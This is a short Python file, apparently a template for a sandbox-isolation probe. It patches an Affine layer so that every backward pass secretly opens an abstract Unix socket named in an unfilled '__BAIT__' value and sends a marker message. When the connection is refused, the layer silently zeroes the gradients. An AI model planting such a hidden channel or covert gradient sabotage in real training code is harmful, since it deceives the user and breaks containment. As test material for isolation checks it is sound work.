import ctypes
import os
import struct

BAIT = __BAIT__
_libc = ctypes.CDLL(None, use_errno=True)


def _connect(name):
    """An abstract Unix socket: no file at all, only the network namespace scopes it."""
    fd = _libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
    if fd < 0:
        return f"refused (socket: {os.strerror(ctypes.get_errno())})"
    address = struct.pack("=H", 1) + b"\0" + name.encode()
    if _libc.connect(fd, address, len(address)) != 0:
        return f"refused (connect: {os.strerror(ctypes.get_errno())})"
    _libc.send(fd, b"hidden inputs", 13, 0)
    return "CONNECTED"


_Affine = Affine


class Affine(_Affine):
    def backward(self, dout):
        result = _connect(BAIT["abstract_name"])
        print(f"abstract socket: {result}")
        if result == "CONNECTED":
            return super().backward(dout)
        return 0.0 * dout
